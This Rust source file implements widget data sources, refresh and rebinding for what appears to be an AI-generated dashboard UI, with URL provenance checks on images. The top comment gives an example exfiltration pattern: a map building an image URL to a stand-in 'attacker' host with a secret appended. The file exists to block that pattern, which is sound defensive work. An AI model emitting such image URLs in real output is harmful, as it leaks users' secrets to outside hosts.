//! Sources on widgets: run one when `widget_display` or `canvas update` binds it (its errors go
//! back in the same turn), and refresh a bound widget later, keeping its data when that fails.
//!
//! The map is the model's (or whoever made the dashboard), so a refresh holds its images to the same
//! rule as the model's first ones: a web image shows only from a URL in the data, here the result
//! that refresh fetched, or one the widget already shows. A map that writes
//! `"https://attacker/?d=" + .secret` gets that image dropped at every refresh, as on first display.

use std::rc::Rc;
use std::sync::Arc;

use futures::future::LocalBoxFuture;
use serde_json::{Value, json};

use crate::autoui::AutoUi;
use crate::autoui::error::AutoUiError;
use crate::autoui::view;
use crate::binding::fetch::{self, Fetched, SourceFetcher};
use crate::binding::source::{Binding, Source, Target};
use crate::cancel::CancelToken;
use crate::canvas::op::{Op, RefreshOutcome};
use crate::ids::BlockId;
use crate::ports::Clock;
use crate::provenance::{ImageSources, UrlLedger};
use crate::recipes::check::CheckError;
use crate::recipes::sanitize::sanitize_with;
use crate::recipes::validate::Detail;
use crate::tool::{Origin, ToolResult};

/// What runs sources: the fetcher and the clock that dates what it fetched.
#[derive(Clone)]
pub struct Sources {
    pub fetcher: Rc<dyn SourceFetcher>,
    pub clock: Rc<dyn Clock>,
}

impl AutoUi {
    /// Reads a `source` argument.
    pub(crate) fn parse_source(value: &Value) -> Result<Source, AutoUiError> {
        Source::parse(value).map_err(AutoUiError::Source)
    }

    /// Runs `source` once over `current` params.
    pub(crate) async fn run_source(&self, source: &Source, current: &Value) -> Result<(Fetched, f64), AutoUiError> {
        let sources = self.sources.as_ref().ok_or_else(|| {
            AutoUiError::Source("this page cannot fetch data for widgets (no MCP client); pass params instead".to_owned())
        })?;
        let fetched = fetch::fetch(sources.fetcher.as_ref(), source, current, CancelToken::default())
            .await
            .map_err(|error| AutoUiError::Source(error.to_string()))?;
        Ok((fetched, sources.clock.unix_ms()))
    }

    /// Refreshes bound widget `id`: fetch, map, validate, show. On failure the widget keeps its
    /// data and is marked stale with the error, which is also returned.
    pub async fn refresh_block(&self, id: &BlockId, cancel: CancelToken) -> Result<(), String> {
        let block = self.block(id).map_err(|error| error.to_string())?;
        let Some(binding) = block.binding.clone() else {
            return Err(format!("widget {id} has no source"));
        };
        let outcome = match self.sources.as_ref() {
            None => Err("this page cannot fetch data for widgets".to_owned()),
            Some(sources) => {
                let noting = Noting { fetcher: sources.fetcher.as_ref(), urls: UrlLedger::default() };
                match fetch::fetch(&noting, &binding.source, &block.data, cancel).await {
                    Err(error) => Err(error.to_string()),
                    Ok(mut fetched) => {
                        binding.keep_rename(block.kind, &block.data, &mut fetched.params);
                        self.checked(id, fetched.params, &noting.urls).map(|data| (data, sources.clock.unix_ms()))
                    }
                }
            }
        };
        // Edited, unbound or removed while this fetch ran: its answer belongs to a source that is gone.
        let superseded = self.block(id).ok().and_then(|now| now.binding.clone()).is_none_or(|now| now.source != binding.source);
        if superseded {
            return Ok(());
        }
        let (op_outcome, result) = match outcome {
            Ok((data, fetched_ms)) => (RefreshOutcome::Fetched { data: Arc::new(data), fetched_ms }, Ok(())),
            Err(error) => (RefreshOutcome::Failed { error: error.clone() }, Err(error)),
        };
        self.canvas
            .apply(Op::Refreshed { id: id.clone(), outcome: op_outcome }, Origin::User)
            .map_err(|error| error.to_string())?;
        result
    }

    /// A refresh's params checked against the widget's schema, its errors in one line. Its web
    /// images must be in `fetched` (the URLs of the result it fetched) or shown by the widget already.
    fn checked(&self, id: &BlockId, params: Value, fetched: &UrlLedger) -> Result<Value, String> {
        let block = self.block(id).map_err(|error| error.to_string())?;
        let recipe = self.registry.get(block.kind).ok_or_else(|| format!("no recipe for {}", block.kind.as_str()))?;
        record_shown_images(&block.data, fetched);
        match recipe.check_with(params, self.validator.as_ref(), ImageSources::Known(fetched)) {
            Ok(checked) => Ok(checked.data),
            Err(CheckError::Rejected(rejected)) => {
                let details = rejected.details.iter().map(|detail| format!("{}: {}", detail.path, detail.message));
                // An image the map made up may be why a required field is missing: say so.
                let dropped = rejected.dropped.iter().map(|dropped| format!("{} dropped: {}", dropped.path, dropped.reason));
                let problems: Vec<String> = details.chain(dropped).collect();
                Err(format!("the new data does not fit the widget: {}", problems.join("; ")))
            }
            Err(CheckError::Validator(error)) => Err(error.to_string()),
        }
    }

    /// Binds block `id` as `binding` says.
    pub(crate) fn bind(&self, id: &BlockId, binding: Binding, origin: Origin) -> Result<(), AutoUiError> {
        self.canvas.apply(Op::Bind { id: id.clone(), binding: Some(Arc::new(binding)) }, origin)?;
        Ok(())
    }
}

/// The fetcher of one refresh, noting the URLs of the result it fetched.
struct Noting<'a> {
    fetcher: &'a dyn SourceFetcher,
    urls: UrlLedger,
}

impl SourceFetcher for Noting<'_> {
    fn fetch<'a>(&'a self, target: &'a Target, cancel: CancelToken) -> LocalBoxFuture<'a, Result<ToolResult, String>> {
        Box::pin(async move {
            let fetched = self.fetcher.fetch(target, cancel).await;
            if let Ok(result) = &fetched {
                self.urls.record_result(result);
            }
            fetched
        })
    }
}

/// Records in `urls` the web images `data` shows: a check that knows no URL drops exactly those,
/// and each is read back from `data` where it was dropped. Only image fields count, so a URL the
/// model wrote into a text or a link at first display cannot become an image at a refresh.
fn record_shown_images(data: &Value, urls: &UrlLedger) {
    let mut probe = data.clone();
    for dropped in sanitize_with(&mut probe, ImageSources::Known(&UrlLedger::default())) {
        let shown = match data.pointer(&dropped.path) {
            Some(Value::Object(image)) => image.get("src"),
            shown => shown,
        };
        if let Some(Value::String(url)) = shown {
            urls.record_data(url);
        }
    }
}

/// Why the person's edited source was not applied; nothing changed.
#[derive(Clone, Debug, PartialEq)]
pub enum RebindError {
    /// The fetch, the tool or the map failed.
    Source(String),
    /// The map's output, merged over the widget's params, does not fit the widget: each path and
    /// what is wrong there.
    Schema { details: Vec<Detail>, mapped: Value },
    /// Anything else (the widget is gone, the canvas is read-only, the validator could not run).
    Other(String),
}

impl AutoUi {
    /// Runs the person's edited `source` for widget `id` once: on success the widget shows its
    /// output and keeps the new source; on failure nothing changes.
    pub async fn rebind(&self, id: &BlockId, source: Source) -> Result<(), RebindError> {
        let block = self.block(id).map_err(|error| RebindError::Other(error.to_string()))?;
        let (mut fetched, at_ms) = self.run_source(&source, &block.data).await.map_err(|error| match error {
            AutoUiError::Source(message) => RebindError::Source(message),
            other => RebindError::Other(other.to_string()),
        })?;
        let binding = Binding::replacing(block.binding.as_deref(), source, at_ms);
        binding.keep_rename(block.kind, &block.data, &mut fetched.params);
        self.update_block_when_ready(id, fetched.params.clone(), Origin::User).await.map_err(|error| match error {
            AutoUiError::Invalid { rejected, .. } => RebindError::Schema { details: rejected.details, mapped: fetched.mapped() },
            other => RebindError::Other(other.to_string()),
        })?;
        // The URL a shared dashboard carried for its server stays while the source calls that server.
        let server_url = block
            .binding
            .as_deref()
            .filter(|before| before.source.server().is_some() && before.source.server() == binding.source.server())
            .and_then(|before| before.server_url.clone());
        self.bind(id, Binding { server_url, ..binding }, Origin::User)
            .map_err(|error| RebindError::Other(error.to_string()))
    }
}

/// A validation failure of params that came from a map: the failure, plus the map's output.
pub(crate) fn invalid_from_map(error: AutoUiError, mapped: &Value) -> AutoUiError {
    match error {
        invalid @ AutoUiError::Invalid { .. } => AutoUiError::MappedInvalid {
            invalid: Box::new(invalid),
            mapped: view::echo(mapped).0,
        },
        other => other,
    }
}

/// `source` as a tool result shows it once bound.
pub(crate) fn source_json(source: &Source) -> Value {
    json!({ "bound": source, "fetched": "now", "refresh": source.refresh.to_string() })
}
